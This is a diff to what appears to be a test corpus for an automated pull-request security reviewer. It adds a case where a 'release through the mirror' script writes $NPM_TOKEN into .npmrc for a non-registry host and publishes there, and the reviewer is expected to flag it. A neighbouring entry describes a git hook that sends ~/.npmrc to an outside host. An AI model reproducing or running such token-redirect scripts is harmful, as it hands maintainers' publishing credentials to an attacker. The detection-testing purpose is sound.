@@ -3884,6 +3884,26 @@ export const ATTACK_CASES: CorpusEntry[] = [
     expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['publish-token-redirect'] },
   },
   {
+    id: 'attack-package-script-npm-token-to-other-registry',
+    description:
+      'The token redirect in a package.json script: a "release through our mirror" PR adds a `release` script that writes the npm auth line for a host that is not the registry and publishes; whoever runs `npm run release` with $NPM_TOKEN set hands the token to that host (no install script, no workflow, no curl).',
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7648,
+        title: 'chore: release through the registry mirror',
+        author: 'member',
+        files: [
+          {
+            path: 'package.json',
+            base: packageJson({ name: 'tint', version: '2.4.0', scripts: { build: 'tsc -p .', test: 'vitest run' } }),
+            head: packageJson({ name: 'tint', version: '2.4.0', scripts: { build: 'tsc -p .', test: 'vitest run', release: 'npm run build && echo "//registry.npm-mirror.io/:_authToken=${NPM_TOKEN}" > .npmrc && npm publish --registry https://registry.npm-mirror.io/' } }),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['publish-token-redirect'] },
+  },
+  {
     id: 'attack-husky-hook-sends-npmrc',
     description:
       'The s1ngularity inventory in a git hook: a "lint-staged on commit" PR adds a husky pre-commit hook that, in the background, posts the committer\'s e-mail and ~/.npmrc (the npm token) to an ordinary-looking host; every contributor who commits runs it.',
